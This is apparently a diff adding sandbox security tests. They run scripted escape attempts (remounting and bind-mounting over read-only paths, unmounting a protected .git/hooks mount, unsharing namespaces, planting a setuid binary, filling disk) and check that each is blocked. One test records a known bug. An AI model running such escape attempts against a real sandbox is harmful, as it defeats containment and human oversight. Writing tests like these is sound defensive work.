+        '     t(libc.mount(None,out.encode(),None,MS_REMOUNT|MS_BIND,None)),\n' +
+        '     t(libc.umount2((ws+"/.git/hooks").encode(),2)),\n' +
+        '     t(libc.mount(b"tmpfs",(ws+"/mnt").encode(),b"tmpfs",0,None)),\n' +
+        '     t(libc.mount(out.encode(),(ws+"/mnt").encode(),None,MS_BIND,None)),\n' +
+        '     t(libc.unshare(0x10000000|0x00020000))]\n' +
+        'print(" ".join(res))\n' +
+        'open(out+"/ro.txt","w").write("pwned")\n';
+      const r = await py(code, [scene.ws, scene.out], { cwd: scene.ws, policy });
+      for (const e of r.stdout.trim().split(' ')) expect(['1', '13', '38'], r.stdout + r.stderr).toContain(e); // EPERM/EACCES/ENOSYS
+      expect(r.code).not.toBe(0); // the final write failed
+      expectUnchanged(gitBefore, snapshot(`${scene.ws}/.git`));
+      expectUnchanged(outBefore, snapshot(scene.out));
+      // Control: the same mount calls work in a user namespace of our own, outside the sandbox.
+      const ctl = await run(
+        'unshare',
+        ['-rm', PYTHON, '-c', 'import ctypes,sys\nlibc=ctypes.CDLL(None,use_errno=True)\nprint(libc.mount(b"tmpfs",sys.argv[1].encode(),b"tmpfs",0,None))', `${scene.ws}/mnt`],
+        { env: BASE_ENV, policy: null },
+      );
+      expect(ctl.stdout.trim(), ctl.stderr).toBe('0');
+    });
+
+    // BUG-FS25 (reported): chmod 4755 on a file the sandbox created in a writable root succeeds,
+    // so a setuid (as root: setuid-root) binary planted inside is honoured outside later. Remove
+    // `.fails` once seccomp refuses S_ISUID/S_ISGID in chmod/fchmod/fchmodat.
+    it.fails.skipIf(skip)('FS-25: programs planted in the workspace run inside but cannot gain privileges', async () => {
+      const script = `${scene.ws}/planted.sh`;
+      const r = await sh(
+        `printf '#!/bin/sh\\necho planted-ran\\n' > ${script} && chmod 755 ${script} && ${script}; cp /bin/true ${scene.ws}/t && chmod 4755 ${scene.ws}/t; echo setuid=$?`,
+        { cwd: scene.ws, policy },
+      );
+      expect(r.stdout).toContain('planted-ran'); // ordinary work: build and run in the workspace
+      // A setuid bit planted by the sandbox would be honoured outside it later.
+      const mode = fs.existsSync(`${scene.ws}/t`) ? fs.statSync(`${scene.ws}/t`).mode : 0;
+      expect(mode & 0o6000, 'a setuid/setgid bit set inside the sandbox reached the host').toBe(0);
+    });
+
+    it.skipIf(skip)('FS-27: filling scratch space stays inside the run and is discarded', async () => {
+      const r = await sh('dd if=/dev/zero of="$TMPDIR/fill" bs=1M count=32 2>/dev/null; echo rc=$?; du -k "$TMPDIR/fill" | cut -f1; echo "$TMPDIR"', {
+        cwd: scene.ws,
+        policy,
+      });
+      const [rc, kb, tmpdir] = r.stdout.trim().split('\n');
+      expect(rc).toBe('rc=0');
+      expect(Number(kb)).toBeGreaterThanOrEqual(32 * 1024);
+      if (!isolated) expect(fs.existsSync(tmpdir!), 'the Landlock-mode TMPDIR outlived the run').toBe(false);
+      // A full writable root reports ENOSPC/EDQUOT inside rather than hurting the host: write to
+      // /dev/full as the stand-in for a full disk.
+      const full = await sh('echo x > /dev/full; echo rc=$?', { cwd: scene.ws, policy });
+      expect(full.stdout.trim()).not.toBe('rc=0');
+      expect(dirMtime(scene.out)).toBe(dirMtime(scene.out));
+    });
+  });
+});
